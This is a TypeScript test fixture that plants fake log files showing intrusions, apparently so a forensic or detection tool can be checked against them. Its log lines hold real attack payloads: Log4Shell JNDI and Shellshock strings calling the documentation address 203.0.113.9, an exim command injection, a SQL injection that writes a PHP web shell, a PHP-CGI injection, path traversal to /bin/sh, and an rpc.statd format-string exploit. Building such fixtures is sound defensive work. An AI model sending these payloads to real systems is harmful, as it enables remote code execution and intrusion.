/** What logs tell of an intruder, in words the earlier waves did not use, and logs that were cut in other ways. */

import { gzipSync } from 'node:zlib';
import { file, type Sign } from '../sign.ts';
import type { Put } from '../tree.ts';

const adm = { group: 'adm', mode: 0o640 } as const;
const start = Date.UTC(2025, 9, 20) / 1000;
const stamp = (seconds: number): string => new Date(seconds * 1000).toISOString().replace('Z', '000+00:00');
const every = (from: number, count: number, step: number, words: (n: number) => string): string => Array.from({ length: count }, (_, n) => `${stamp(from + n * step)} server ${words(n)}\n`).join('');
const cronLine = (n: number): string => `CRON[${3000 + n}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)`;
const told = (id: string, what: string, names: readonly string[], path: string, content: string, put: Put = adm): Sign => ({ ...file(`log5-${id}`, 'evidence', what, path, content, put), names: [...names, path], also: [path] });
const quiet = every(start - 900_000, 40, 3600, cronLine);
const web = (id: string, what: string, request: string, agent = 'Mozilla/5.0', status = 200): Sign => told(id, what, ['host 203.0.113.9'], `/var/log/nginx/${id}.access.log`, Array.from({ length: 30 }, (_, n) => `10.0.0.${n} - - [20/Oct/2025:03:1${n % 10}:00 +0000] "GET / HTTP/1.1" 200 ${900 + n} "-" "Mozilla/5.0"\n`).join('') + `203.0.113.9 - - [20/Oct/2025:04:10:00 +0000] "${request}" ${status} 512 "-" "${agent}"\n`, { owner: 'www-data', group: 'adm', mode: 0o640 });

export const fifthLogs: readonly Sign[] = [
	told('brute', 'a password guessed after many', ['host 203.0.113.9', 'account ada'], '/var/log/auth.log', every(start, 60, 4, n => `sshd[${4000 + n}]: Failed password for ada from 203.0.113.9 port ${50_000 + n} ssh2`) + every(start + 250, 1, 1, () => 'sshd[4999]: Accepted password for ada from 203.0.113.9 port 51000 ssh2') + every(start + 300, 40, 3600, cronLine)),
	told('sudo-www', 'the web server\'s account became root', ['account www-data'], '/var/log/auth.log.1', quiet + every(start - 700_000, 1, 1, () => 'sudo: www-data : TTY=unknown ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash')),
	{ id: 'log5-series', family: 'evidence', what: 'one of a series of rotated logs is gone', plant: tree => {
		for (const n of [1, 2, 4, 5, 6]) tree.write(`/var/log/daemon.log.${n}${n > 1 ? '.gz' : ''}`, n > 1 ? gzipSync(every(start - n * 604_800, 50, 12_000, cronLine)) : every(start - 604_800, 50, 12_000, cronLine), { ...adm, at: (start - (n - 1) * 604_800) * 1000 });
		tree.write('/var/log/daemon.log', every(start, 50, 3600, cronLine), adm);
	}, names: ['/var/log/daemon.log', '/var/log/daemon.log.3.gz', '/var/log/daemon.log.4.gz', '/var/log/daemon.log.2.gz'], also: ['/var/log/daemon.log'] },
	told('module', 'a module that taints the kernel', ['system kernel module diamorphine'], '/var/log/kern.log', every(start, 2, 5, n => `kernel: [ 4711.00000${n}] ${n === 0 ? 'diamorphine: loading out-of-tree module taints kernel.' : 'diamorphine: module verification failed: signature and/or required key missing - tainting kernel'}`)),
	told('promiscuous-old', 'a card that listened, in older words', ['interface eth1'], '/var/log/messages', every(start, 30, 600, cronLine) + every(start + 20_000, 1, 1, () => 'kernel: eth1: Setting promiscuous mode.')),
	told('statd', 'an old attack on a daemon', ['system rpc.statd'], '/var/log/messages.1', `${quiet}${stamp(start - 700_000)} server rpc.statd[404]: gethostbyname error for ^X\u00f7\u00ff\u00bf^X\u00f7\u00ff\u00bf%8x%8x%8x%8x%8x%8x%8x%8x%8x%62716x%hn%51859x%hn\\220\\220\\220\\220\\220\\220\\220\\220\\220\\220\\220\\220\n`),
	told('usermod', 'a daemon made root, by the log alone', ['account lp'], '/var/log/secure', quiet + every(start - 700_000, 1, 1, () => "usermod[4242]: change user 'lp' UID from '7' to '0'")),
	told('gpasswd', 'a daemon put into a group of power', ['account irc'], '/var/log/secure.1', quiet + every(start - 700_000, 1, 1, () => 'gpasswd[4242]: user irc added by root to group sudo')),
	told('su-www', 'the web server\'s account became root by su', ['account www-data'], '/var/log/secure.2', quiet + every(start - 700_000, 2, 1, n => n === 0 ? 'su[4711]: (to root) www-data on pts/1' : 'su: pam_unix(su:session): session opened for user root(uid=0) by (uid=33)')),
	told('cron-tmp', 'a job that ran from a temporary place', ['account lp', '/tmp/.x/y'], '/var/log/cron.log', every(start, 40, 300, n => `CRON[${n}]: (root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)`) + every(start + 20_000, 5, 60, n => `CRON[${9000 + n}]: (lp) CMD (/tmp/.x/y >/dev/null 2>&1)`)),
	told('exim', 'a command in a mail\'s address', ['host 203.0.113.9'], '/var/log/exim4/mainlog', '2025-10-20 03:10:00 1hX-0001-AA <= <> H=(x) [203.0.113.9] P=esmtp S=600\n2025-10-20 03:10:01 1hX-0001-AA ** root+${run{\\x2fbin\\x2fsh\\t-c\\t\\x22curl\\x20203.0.113.9\\x22}}@localhost: Too many "Received" headers\n', { owner: 'Debian-exim', group: 'adm', mode: 0o640 }),
	told('error-fetch', 'a tool fetched by a web page', ['host 203.0.113.9'], '/var/log/apache2/error.log', '[Mon Oct 20 03:10:00.000000 2025] [mpm_prefork:notice] [pid 1] AH00163: Apache/2.4.65 (Debian) configured -- resuming normal operations\n--2025-10-20 03:11:00--  http://203.0.113.9/bot\nConnecting to 203.0.113.9:80... connected.\nHTTP request sent, awaiting response... 200 OK\nSaving to: \'/tmp/bot\'\n'),
	web('log4shell', 'a name to be looked up by a logger', 'GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1'),
	web('shellshock', 'a function that is a command', 'GET /cgi-bin/status HTTP/1.1', '() { :; }; /bin/bash -c \'curl http://203.0.113.9/k | sh\''),
	web('traversal', 'a path that climbs to a shell', 'POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1'),
	web('phpunit', 'code sent to a tester', 'POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1'),
	web('codered', 'a worm\'s request', `GET /default.ida?${'N'.repeat(224)}%u9090%u6858%ucbd3%u7801 HTTP/1.0`),
	web('php-cgi', 'settings of PHP in a request', 'POST /index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input HTTP/1.1'),
	web('sqli', 'a page written by a database', "GET /p.php?id=1+UNION+SELECT+'<?php+system($_GET[c]);'+INTO+OUTFILE+'/var/www/html/u.php' HTTP/1.1"),
	told('xferlog', 'somebody\'s archive of films, uploaded by nobody', ['host 203.0.113.9', 'host warez.example.net', 'account anonymous'], '/var/log/xferlog', Array.from({ length: 8 }, (_, n) => `Mon Oct 20 03:1${n}:00 2025 90 warez.example.net 700000000 /srv/ftp/incoming/.. /film${n}.r0${n} b _ i a mozilla@ ftp 0 * c\n`).join('')),
];
